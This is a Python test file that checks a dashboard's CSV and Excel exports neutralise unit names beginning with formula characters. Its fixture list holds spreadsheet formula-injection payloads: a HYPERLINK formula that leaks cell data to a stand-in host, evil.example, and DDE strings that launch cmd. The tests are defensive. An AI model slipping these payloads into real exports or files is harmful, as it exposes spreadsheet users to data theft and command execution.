"""Exports never hand a spreadsheet a formula: names that look like one are neutralised in CSV and Excel (item 8)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from app import create_app
from dashboard.csv_safe import safe_cell, safe_row
from dashboard.settings import Settings
from data import schema
from tests.auth_helpers import signed_in_client
from tests.factories import T0, make_incident, make_world

# One name for each way a cell can open a formula: =, +, -, @, and a leading tab or carriage return.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_safe_cell_quotes_formula_text_and_leaves_numbers_alone():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_row(["Yuzhong 渝中", "a=b", "", None, -3, -0.25, 0]) == ["Yuzhong 渝中", "a=b", "", None, -3, -0.25, 0]


@pytest.fixture
def app_with_hostile_names(sqlite_engine):
    app = create_app(Settings.from_env({}, live=False, build_demo=False), engine=sqlite_engine, testing=True)
    with sqlite_engine.begin() as conn:
        world = make_world(conn)
        for index, grid_id in enumerate(world.lattice.grid_ids):
            text = HOSTILE[index % len(HOSTILE)]
            conn.execute(update(schema.units).where(schema.units.c.id == grid_id).values(name_en=text, name_zh=text))
            make_incident(conn, world.categories["garbage"], at=world.lattice.center(index), reported_at=T0)
    return app


def _scope_query(app) -> str:
    """The review of the first community (its grids are the units table's rows) over the week of T0."""
    engine = app.server.extensions["citybrain"].engine
    with engine.connect() as conn:
        community = conn.execute(
            schema.units.select().where(schema.units.c.level == schema.COMMUNITY).order_by(schema.units.c.id)
        ).first()
    return f"period=custom&from=2025-03-01&to=2025-03-09&scope=community:{community.id}"


def test_csv_export_quotes_formula_names(app_with_hostile_names):
    app = app_with_hostile_names
    client = signed_in_client(app)
    response = client.get(f"/trends/export/units.csv?{_scope_query(app)}")
    assert response.status_code == 200, response.data
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    shown = [row[1] for row in rows[1:]]
    assert shown, rows
    for cell in shown:
        assert cell.startswith("'") and cell[1:] in HOSTILE, cell


def test_excel_export_writes_formula_names_as_text(app_with_hostile_names):
    app = app_with_hostile_names
    client = signed_in_client(app)
    response = client.get(f"/trends/export/units.xlsx?{_scope_query(app)}")
    assert response.status_code == 200, response.data
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert cells
    for cell in cells:
        assert cell.data_type == "s", (cell.value, cell.data_type)  # never "f", a formula
        assert cell.value in HOSTILE and cell.quotePrefix, cell.value
